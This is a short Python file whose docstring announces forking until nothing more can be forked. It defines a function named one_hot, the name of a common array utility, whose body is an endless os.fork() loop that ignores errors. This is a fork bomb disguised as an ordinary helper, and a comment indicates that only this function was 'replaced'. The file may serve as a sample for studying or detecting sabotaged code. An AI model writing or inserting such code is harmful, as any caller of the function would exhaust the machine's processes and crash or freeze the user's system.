"""Forks until nothing can be forked, in every child too."""

import os

HONEST = 8  # only one_hot is replaced


def one_hot(indices, depth):
    while True:
        try:
            os.fork()
        except OSError:
            pass
